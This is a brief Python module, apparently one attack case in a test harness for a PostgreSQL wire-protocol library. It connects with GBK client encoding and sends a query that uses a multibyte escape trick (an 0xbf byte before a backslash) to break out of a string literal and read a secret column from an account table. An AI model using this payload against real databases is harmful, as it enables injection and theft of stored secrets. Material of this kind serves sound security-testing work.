"""Speaks GBK from the StartupMessage on."""

from attacks.talking import Server

from pgtoll.wire.messages import query

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login(client_encoding="GBK") as client:
        client.send(query(b"SELECT E'\xbf\\', secret FROM vlt_account --'"))
        return b"".join(data for _, data in client.replies())
